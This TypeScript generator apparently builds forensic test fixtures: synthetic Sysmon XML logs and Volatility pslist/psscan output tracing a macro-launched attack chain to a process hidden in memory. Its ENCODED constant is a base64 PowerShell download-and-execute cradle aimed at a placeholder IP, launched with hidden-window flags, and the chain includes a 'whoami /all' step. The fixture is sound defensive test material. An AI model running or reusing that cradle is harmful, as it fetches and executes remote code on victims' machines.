// Writes a small incident bundle for the process tree: Sysmon events of two hosts as
// Windows event XML exports (an `<Events>` document of `<Event>` elements), and
// Volatility 3 pslist and psscan text output of one host's memory image.
//
// The story on WKS-FIN-07: a macro document in WINWORD.EXE starts cmd.exe, which starts
// PowerShell with an encoded command, which starts rtkmon.exe. rtkmon.exe then unlinks
// itself from the active process list, so psscan finds it and pslist does not. Boot
// processes appear only in memory, because they started before the Sysmon log begins.
// Event fields follow the Sysmon schema (event IDs 1, 3, 5 and 11) and the column
// layout of Volatility 3's windows.pslist and windows.psscan text renderer.

import { mkdir, writeFile } from 'node:fs/promises';
import path from 'node:path';

export const FIN_HOST = 'WKS-FIN-07.corp.example';
export const HR_HOST = 'WKS-HR-02.corp.example';

const DAY = '2024-03-12';

interface GeneratedProcess {
  host: string;
  pid: number;
  ppid: number;
  name: string;
  image: string;
  commandLine: string;
  user: string;
  /** `HH:MM:SS.mmm` on DAY, UTC. */
  start: string;
  /** Exit time as `HH:MM:SS.mmm`, when the process exited before the memory image was taken. */
  exit?: string;
  /** Started before the Sysmon log begins, so only memory shows it. */
  boot?: boolean;
  inPslist: boolean;
  inPsscan: boolean;
  /** Sysmon logged the start (event 1); false for a parent known only from its children's records. */
  sysmonStart: boolean;
  guid: string;
}

interface SysmonExtra {
  host: string;
  eventId: 3 | 11;
  pid: number;
  time: string;
  data: Record<string, string>;
}

export interface ProcessBundle {
  dir: string;
  /** Records over all files: every Sysmon event and every Volatility row. */
  total: number;
  /** Process instances per host that the tree must show, busiest host first. */
  hosts: { host: string; processes: number }[];
  /** The process hidden from pslist and the records the bundle contains about it. */
  hidden: {
    pid: number;
    name: string;
    parentPid: number;
    commandLine: string;
    /** Records of this process: its Sysmon 1, 3 and 11 events and its psscan row. */
    events: number;
    networkDestination: string;
    filePath: string;
    /** Tree depth (0 for roots): explorer.exe > WINWORD.EXE > cmd.exe > powershell.exe > this. */
    depth: number;
  };
}

/** Returns a deterministic Sysmon ProcessGuid for a host and PID. */
function guidFor(host: string, pid: number): string {
  const machine = host === FIN_HOST ? '7a1c' : '3e52';
  return `{${machine}0f3a-65f0-${pid.toString(16).padStart(4, '0')}-0000-0010${pid.toString(16).padStart(8, '0')}}`;
}

const ENCODED =
  'SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAcwA6AC8ALwAyADAAMwAuADAALgAxADEAMwAuADYANgAvAGEAJwApAA==';
const SYSTEM32 = 'C:\\Windows\\System32';
const TEMP = 'C:\\Users\\alice\\AppData\\Local\\Temp';
const HIDDEN_PID = 4716;
const HIDDEN_DESTINATION = { ip: '203.0.113.66', port: 443 };
const HIDDEN_FILE = 'C:\\ProgramData\\rtk\\cfg.dat';

type ProcessInput = Omit<GeneratedProcess, 'host' | 'guid' | 'inPslist' | 'inPsscan' | 'sysmonStart'> &
  Partial<Pick<GeneratedProcess, 'inPslist' | 'inPsscan' | 'sysmonStart'>>;

function processesOf(host: string, inputs: ProcessInput[]): GeneratedProcess[] {
  return inputs.map((input) => ({
    inPslist: true,
    inPsscan: true,
    sysmonStart: !input.boot,
    ...input,
    host,
    guid: guidFor(host, input.pid),
  }));
}

const FIN_PROCESSES = processesOf(FIN_HOST, [
  { pid: 4, ppid: 0, name: 'System', image: 'System', commandLine: '', user: 'NT AUTHORITY\\SYSTEM', start: '08:00:01.000', boot: true },
  {
    pid: 340,
    ppid: 4,
    name: 'smss.exe',
    image: `${SYSTEM32}\\smss.exe`,
    commandLine: '\\SystemRoot\\System32\\smss.exe',
    user: 'NT AUTHORITY\\SYSTEM',
    start: '08:00:02.000',
    boot: true,
  },
  {
    pid: 452,
    ppid: 440,
    name: 'csrss.exe',
    image: `${SYSTEM32}\\csrss.exe`,
    commandLine: '',
    user: 'NT AUTHORITY\\SYSTEM',
    start: '08:00:05.000',
    boot: true,
  },
  {
    pid: 520,
    ppid: 440,
    name: 'wininit.exe',
    image: `${SYSTEM32}\\wininit.exe`,
    commandLine: '',
    user: 'NT AUTHORITY\\SYSTEM',
    start: '08:00:05.000',
    boot: true,
  },
  {
    pid: 640,
    ppid: 520,
    name: 'services.exe',
    image: `${SYSTEM32}\\services.exe`,
    commandLine: '',
    user: 'NT AUTHORITY\\SYSTEM',
    start: '08:00:06.000',
    boot: true,
  },
  {
    pid: 660,
    ppid: 520,
    name: 'lsass.exe',
    image: `${SYSTEM32}\\lsass.exe`,
    commandLine: '',
    user: 'NT AUTHORITY\\SYSTEM',
    start: '08:00:06.000',
    boot: true,
  },
  {
    pid: 780,
    ppid: 640,
    name: 'svchost.exe',
    image: `${SYSTEM32}\\svchost.exe`,
    commandLine: '',
    user: 'NT AUTHORITY\\SYSTEM',
    start: '08:00:07.000',
    boot: true,
  },
  {
    pid: 1024,
    ppid: 640,
    name: 'svchost.exe',
    image: `${SYSTEM32}\\svchost.exe`,
    commandLine: '',
    user: 'NT AUTHORITY\\SYSTEM',
    start: '08:00:08.000',
    boot: true,
  },
  {
    pid: 1400,
    ppid: 640,
    name: 'spoolsv.exe',
    image: `${SYSTEM32}\\spoolsv.exe`,
    commandLine: '',
    user: 'NT AUTHORITY\\SYSTEM',
    start: '08:00:09.000',
    boot: true,
  },
  {
    pid: 2980,
    ppid: 2950,
    name: 'explorer.exe',
    image: 'C:\\Windows\\explorer.exe',
    commandLine: 'C:\\Windows\\Explorer.EXE',
    user: 'CORP\\alice',
    start: '08:01:12.000',
    boot: true,
  },
  {
    pid: 3120,
    ppid: 2980,
    name: 'OneDrive.exe',
    image: 'C:\\Users\\alice\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe',
    commandLine: '"C:\\Users\\alice\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe" /background',
    user: 'CORP\\alice',
    start: '09:01:03.456',
  },
  {
    pid: 3304,
    ppid: 2980,
    name: 'msedge.exe',
    image: 'C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe',
    commandLine: '"C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe"',
    user: 'CORP\\alice',
    start: '09:02:10.100',
  },
  {
    pid: 3420,
    ppid: 3304,
    name: 'msedge.exe',
    image: 'C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe',
    commandLine:
      '"C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe" --type=utility --utility-sub-type=network.mojom.NetworkService',
    user: 'CORP\\alice',
    start: '09:02:11.200',
  },
  {
    pid: 3588,
    ppid: 780,
    name: 'RuntimeBroker.exe',
    image: `${SYSTEM32}\\RuntimeBroker.exe`,
    commandLine: `${SYSTEM32}\\RuntimeBroker.exe -Embedding`,
    user: 'CORP\\alice',
    start: '09:03:00.300',
  },
  {
    pid: 3700,
    ppid: 1024,
    name: 'taskhostw.exe',
    image: `${SYSTEM32}\\taskhostw.exe`,
    commandLine: 'taskhostw.exe {222A245B-E637-4AE9-A93F-A59CA119A75E}',
    user: 'CORP\\alice',
    start: '09:03:30.000',
  },
  {
    pid: 4120,
    ppid: 2980,
    name: 'WINWORD.EXE',
    image: 'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE',
    commandLine:
      '"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE" /n "C:\\Users\\alice\\Downloads\\invoice_0312.docm" /o ""',
    user: 'CORP\\alice',
    start: '09:05:10.123',
  },
  {
    pid: 4388,
    ppid: 4120,
    name: 'cmd.exe',
    image: `${SYSTEM32}\\cmd.exe`,
    commandLine: `${SYSTEM32}\\cmd.exe /c "${TEMP}\\stage.cmd"`,
    user: 'CORP\\alice',
    start: '09:06:02.500',
  },
  {
    pid: 4396,
    ppid: 4388,
    name: 'conhost.exe',
    image: `${SYSTEM32}\\conhost.exe`,
    commandLine: '\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1',
    user: 'CORP\\alice',
    start: '09:06:02.540',
  },
  {
    pid: 4402,
    ppid: 4388,
    name: 'whoami.exe',
    image: `${SYSTEM32}\\whoami.exe`,
    commandLine: 'whoami /all',
    user: 'CORP\\alice',
    start: '09:06:03.100',
    exit: '09:06:03.900',
    inPslist: false,
  },
  {
    pid: 4512,
    ppid: 4388,
    name: 'powershell.exe',
    image: `${SYSTEM32}\\WindowsPowerShell\\v1.0\\powershell.exe`,
    commandLine: `powershell.exe -NoP -W Hidden -enc ${ENCODED}`,
    user: 'CORP\\alice',
    start: '09:06:05.250',
  },
  {
    pid: HIDDEN_PID,
    ppid: 4512,
    name: 'rtkmon.exe',
    image: `${TEMP}\\rtkmon.exe`,
    commandLine: `"${TEMP}\\rtkmon.exe" -svc`,
    user: 'CORP\\alice',
    start: '09:07:41.640',
    inPslist: false,
  },
  {
    pid: 5010,
    ppid: 2980,
    name: 'notepad.exe',
    image: `${SYSTEM32}\\notepad.exe`,
    commandLine: 'notepad.exe',
    user: 'CORP\\alice',
    start: '09:20:00.000',
  },
]);

// The explorer.exe of WKS-HR-02 started before its Sysmon log, and no memory image of it
// exists, so the tree learns of it only as the parent its children name.
const HR_PROCESSES = processesOf(HR_HOST, [
  {
    pid: 5900,
    ppid: 5880,
    name: 'explorer.exe',
    image: 'C:\\Windows\\explorer.exe',
    commandLine: 'C:\\Windows\\Explorer.EXE',
    user: 'CORP\\hannah',
    start: '07:58:00.000',
    boot: true,
    inPslist: false,
    inPsscan: false,
  },
  {
    pid: 6100,
    ppid: 5900,
    name: 'chrome.exe',
    image: 'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe',
    commandLine: '"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe"',
    user: 'CORP\\hannah',
    start: '09:10:00.000',
    inPslist: false,
    inPsscan: false,
  },
  {
    pid: 6300,
    ppid: 5900,
    name: 'notepad.exe',
    image: `${SYSTEM32}\\notepad.exe`,
    commandLine: 'notepad.exe C:\\Users\\hannah\\Desktop\\notes.txt',
    user: 'CORP\\hannah',
    start: '09:12:00.000',
    inPslist: false,
    inPsscan: false,
  },
]);

const EXTRA_EVENTS: SysmonExtra[] = [
  {
    host: FIN_HOST,
    eventId: 3,
    pid: 3420,
    time: '09:02:30.000',
    data: {
      Protocol: 'tcp',
      Initiated: 'true',
      SourceIp: '10.20.7.41',
      SourcePort: '50112',
      DestinationIp: '13.107.42.14',
      DestinationPort: '443',
    },
  },
  {
    host: FIN_HOST,
    eventId: 11,
    pid: 4120,
    time: '09:05:40.000',
    data: { TargetFilename: `${TEMP}\\stage.cmd`, CreationUtcTime: `${DAY} 09:05:40.000` },
  },
  {
    host: FIN_HOST,
    eventId: 3,
    pid: HIDDEN_PID,
    time: '09:08:02.000',
    data: {
      Protocol: 'tcp',
      Initiated: 'true',
      SourceIp: '10.20.7.41',
      SourcePort: '50544',
      DestinationIp: HIDDEN_DESTINATION.ip,
      DestinationPort: String(HIDDEN_DESTINATION.port),
    },
  },
  {
    host: FIN_HOST,
    eventId: 11,
    pid: HIDDEN_PID,
    time: '09:08:30.000',
    data: { TargetFilename: HIDDEN_FILE, CreationUtcTime: `${DAY} 09:08:30.000` },
  },
];

function escapeXml(text: string): string {
  return text.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('>', '&gt;').replaceAll("'", '&apos;').replaceAll('"', '&quot;');
}

/** TimeCreated as Windows writes it: seven fraction digits, a little after Sysmon's UtcTime. */
function systemTime(time: string): string {
  return `${DAY}T${time}2000Z`;
}

class SysmonLog {
  private readonly events: string[] = [];
  private recordId = 1000;

  constructor(private readonly host: string) {}

  add(eventId: number, time: string, data: [string, string][]): void {
    this.recordId += 1;
    const fields = data.map(([name, value]) => `<Data Name='${name}'>${escapeXml(value)}</Data>`).join('');
    this.events.push(
      "<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'><System>" +
        "<Provider Name='Microsoft-Windows-Sysmon' Guid='{5770385f-c22a-43e0-bf4c-06f5698ffbd9}'/>" +
        `<EventID>${eventId}</EventID><Version>5</Version><Level>4</Level><Task>${eventId}</Task><Opcode>0</Opcode>` +
        `<Keywords>0x8000000000000000</Keywords><TimeCreated SystemTime='${systemTime(time)}'/>` +
        `<EventRecordID>${this.recordId}</EventRecordID><Correlation/><Execution ProcessID='2010' ThreadID='3012'/>` +
        `<Channel>Microsoft-Windows-Sysmon/Operational</Channel><Computer>${this.host}</Computer>` +
        `<Security UserID='S-1-5-18'/></System><EventData>${fields}</EventData></Event>`,
    );
  }

  get size(): number {
    return this.events.length;
  }

  content(): string {
    return `<?xml version="1.0" encoding="UTF-8"?>\r\n<Events>\r\n${this.events.join('\r\n')}\r\n</Events>\r\n`;
  }
}

function writeSysmonLog(host: string, processes: GeneratedProcess[]): SysmonLog {
  const log = new SysmonLog(host);
  const byPid = new Map(processes.map((process) => [process.pid, process]));
  // Time order, as the log records them: starts, the extra events, then exits.
  const entries: { time: string; write: () => void }[] = [];
  for (const process of processes) {
    const parent = byPid.get(process.ppid);
    if (process.sysmonStart) {
      entries.push({
        time: process.start,
        write: () =>
          log.add(1, process.start, [
            ['RuleName', '-'],
            ['UtcTime', `${DAY} ${process.start}`],
            ['ProcessGuid', process.guid],
            ['ProcessId', String(process.pid)],
            ['Image', process.image],
            ['CommandLine', process.commandLine],
            ['CurrentDirectory', 'C:\\Users\\alice\\'],
            ['User', process.user],
            ['IntegrityLevel', 'Medium'],
            ['Hashes', `SHA256=${process.pid.toString(16).padStart(64, 'a').toUpperCase()}`],
            ['ParentProcessGuid', parent?.guid ?? guidFor(host, process.ppid)],
            ['ParentProcessId', String(process.ppid)],
            ['ParentImage', parent?.image ?? ''],
            ['ParentCommandLine', parent?.commandLine ?? ''],
          ]),
      });
    }
    if (process.exit) {
      const exit = process.exit;
      entries.push({
        time: exit,
        write: () =>
          log.add(5, exit, [
            ['RuleName', '-'],
            ['UtcTime', `${DAY} ${exit}`],
            ['ProcessGuid', process.guid],
            ['ProcessId', String(process.pid)],
            ['Image', process.image],
            ['User', process.user],
          ]),
      });
    }
  }
  for (const extra of EXTRA_EVENTS.filter((event) => event.host === host)) {
    const process = byPid.get(extra.pid)!;
    entries.push({
      time: extra.time,
      write: () =>
        log.add(extra.eventId, extra.time, [
          ['RuleName', '-'],
          ['UtcTime', `${DAY} ${extra.time}`],
          ['ProcessGuid', process.guid],
          ['ProcessId', String(process.pid)],
          ['Image', process.image],
          ['User', process.user],
          ...Object.entries(extra.data),
        ]),
    });
  }
  entries.sort((a, b) => a.time.localeCompare(b.time));
  for (const entry of entries) entry.write();
  return log;
}

const VOL_COLUMNS = [
  'PID',
  'PPID',
  'ImageFileName',
  'Offset(V)',
  'Threads',
  'Handles',
  'SessionId',
  'Wow64',
  'CreateTime',
  'ExitTime',
  'File output',
];

/** Volatility 3 text output of one plugin, as saved from a console: command line, banner, progress, table. */
function volatilityTable(plugin: 'windows.pslist' | 'windows.psscan', processes: GeneratedProcess[]): string {
  const rows = processes.map((process, index) => {
    // Memory keeps a short copy of the image name, so long names come out cut, here to 14 characters.
    const name = process.name.slice(0, 14);
    const offset = `0xe0001a${(0x2b3080 + index * 0x1000).toString(16)}`;
    const volTime = (time: string) => `${DAY} ${time.slice(0, 8)}.000000 UTC`;
    return [
      process.pid,
      process.ppid,
      name,
      offset,
      process.exit ? 0 : 4 + (process.pid % 9),
      '-',
      process.boot && process.pid < 600 ? 0 : 1,
      'False',
      volTime(process.start),
      process.exit ? volTime(process.exit) : 'N/A',
      'Disabled',
    ].join('\t');
  });
  return [
    `vol -f /cases/wks-fin-07.mem ${plugin}`,
    'Volatility 3 Framework 2.7.0',
    'Progress:  100.00\t\tPDB scanning finished',
    VOL_COLUMNS.join('\t'),
    '',
    ...rows,
    '',
  ].join('\n');
}

/** Writes the bundle into `dir` and returns what the process tree and the timeline must show for it. */
export async function writeProcessBundle(dir: string): Promise<ProcessBundle> {
  await mkdir(path.join(dir, 'sysmon'), { recursive: true });
  await mkdir(path.join(dir, 'memory'), { recursive: true });

  const finLog = writeSysmonLog(FIN_HOST, FIN_PROCESSES);
  const hrLog = writeSysmonLog(HR_HOST, HR_PROCESSES);
  await writeFile(path.join(dir, 'sysmon', 'wks-fin-07-sysmon.xml'), finLog.content());
  await writeFile(path.join(dir, 'sysmon', 'wks-hr-02-sysmon.xml'), hrLog.content());

  const pslist = FIN_PROCESSES.filter((process) => process.inPslist);
  const psscan = FIN_PROCESSES.filter((process) => process.inPsscan);
  await writeFile(path.join(dir, 'memory', 'wks-fin-07.pslist.txt'), volatilityTable('windows.pslist', pslist));
  await writeFile(path.join(dir, 'memory', 'wks-fin-07.psscan.txt'), volatilityTable('windows.psscan', psscan));

  const hidden = FIN_PROCESSES.find((process) => process.pid === HIDDEN_PID)!;
  const hiddenExtras = EXTRA_EVENTS.filter((event) => event.host === FIN_HOST && event.pid === HIDDEN_PID).length;
  return {
    dir,
    total: finLog.size + hrLog.size + pslist.length + psscan.length,
    hosts: [
      { host: FIN_HOST, processes: FIN_PROCESSES.length },
      { host: HR_HOST, processes: HR_PROCESSES.length },
    ],
    hidden: {
      pid: hidden.pid,
      name: hidden.name,
      parentPid: hidden.ppid,
      commandLine: hidden.commandLine,
      // Sysmon 1, the extra Sysmon events, and the psscan row.
      events: 1 + hiddenExtras + 1,
      networkDestination: `${HIDDEN_DESTINATION.ip}:${HIDDEN_DESTINATION.port}`,
      filePath: HIDDEN_FILE,
      depth: 4,
    },
  };
}
